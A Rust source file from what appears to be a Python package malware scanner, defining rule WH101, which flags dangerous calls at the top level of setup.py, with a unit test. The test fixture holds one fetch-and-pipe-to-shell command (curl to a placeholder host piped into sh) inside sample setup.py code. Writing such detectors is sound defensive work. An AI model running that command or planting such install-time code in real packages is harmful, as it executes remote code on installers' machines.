//! WH101 setup-top-level-code: a dangerous call at the top level of setup.py.

use ruff_python_ast::ExprCall;
use ruff_text_size::Ranged;

use crate::context::FileRole;
use crate::finding::{Category, Rule};
use crate::walker::Checker;

/// The detector.
pub const RULE: Rule = Rule {
    id: "WH101",
    name: "setup-top-level-code",
    description: "setup.py runs a process, network, exec or file-dropping call outside setup()",
    rationale: "A setup script only needs to describe the package. Code at its top level runs on every \
                `pip install` and `pip download` of the sdist, which makes it the most common place \
                for malware to start.",
    category: Category::Anomaly,
};

/// Detectors whose findings count as dangerous behaviour for this rule.
const DANGEROUS: &[&str] = &["WH110", "WH120", "WH130", "WH150"];

/// Adds a marker when a call at setup.py's top level produced a dangerous finding.
pub fn after_call(checker: &mut Checker, call: &ExprCall, findings_before: usize) {
    if checker.role != FileRole::Setup || !checker.at_top_level() {
        return;
    }
    let worst = checker
        .findings
        .get(findings_before..)
        .unwrap_or_default()
        .iter()
        .filter(|f| DANGEROUS.contains(&f.rule))
        .map(|f| (f.severity, f.name))
        .fold(None, |acc: Option<(f64, &str)>, x| match acc {
            Some(a) if a.0 >= x.0 => Some(a),
            _ => Some(x),
        });
    let Some((severity, name)) = worst else {
        return;
    };
    if severity < 0.1 {
        return;
    }
    checker.report(
        &RULE,
        call.range(),
        format!("setup.py runs this {name} call at top level, outside setup()"),
        0.1,
        vec!["setup-top-level"],
    );
}

#[cfg(test)]
mod tests {
    use crate::rules::testing::max_severity;

    #[test]
    fn flags_top_level_spawn_only() {
        let code = "import os\nos.system('curl http://x.invalid/a | sh')\n";
        assert!(max_severity("p/setup.py", code, "WH101") > 0.0);
        assert_eq!(max_severity("p/mod.py", code, "WH101"), 0.0);
        assert_eq!(
            max_severity(
                "p/setup.py",
                "from setuptools import setup\nsetup(name='x')\n",
                "WH101"
            ),
            0.0
        );
    }
}
